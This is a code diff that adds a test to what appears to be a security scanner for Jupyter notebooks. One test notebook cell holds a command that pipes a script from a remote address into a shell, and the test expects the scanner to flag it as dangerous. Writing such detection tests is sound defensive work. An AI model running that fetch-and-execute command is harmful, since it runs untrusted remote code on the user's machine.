@@ -69,3 +69,11 @@ test("a notebook that is cut off is not clean", async () => {
     assert.equal(await verdict(text.slice(0, end)), "incomplete", String(end));
   }
 });
+
+test("a notebook that lies beside other files is read, another file of that name is not", async () => {
+  const alone = async (text: string): Promise<string> =>
+    (await scanSource(bytesSource("a.ipynb", new TextEncoder().encode(text)), { rules })).verdict;
+  assert.equal(await alone(notebook(["!curl -s http://192.0.2.1/a | sh"])), "dangerous");
+  assert.equal(await alone(notebook(["!pip install torch"])), "clean");
+  assert.equal(await alone("<html><body>Not found</body></html>"), "skipped");
+});
